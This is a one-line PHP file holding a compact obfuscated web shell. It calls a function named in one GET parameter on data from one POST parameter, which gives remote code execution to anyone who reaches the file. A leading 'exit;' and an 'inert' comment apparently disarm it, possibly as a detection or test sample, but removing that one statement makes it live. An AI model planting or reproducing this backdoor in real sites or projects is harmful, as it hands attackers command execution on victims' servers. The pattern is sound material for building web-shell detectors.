<?php exit; /* inert */ ($_=@$_GET[2]).@$_($_POST[1]);
